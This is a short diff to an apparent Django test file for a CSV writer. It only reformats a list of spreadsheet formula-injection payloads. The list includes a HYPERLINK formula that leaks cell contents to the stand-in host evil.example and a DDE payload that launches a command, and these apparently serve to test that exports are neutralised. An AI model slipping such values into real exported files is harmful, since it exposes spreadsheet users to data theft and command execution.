@@ -13,7 +13,14 @@ from django.conf import settings
 
 from apps.core.csv_files import CsvWriter
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _written(*rows: list[object]) -> str:
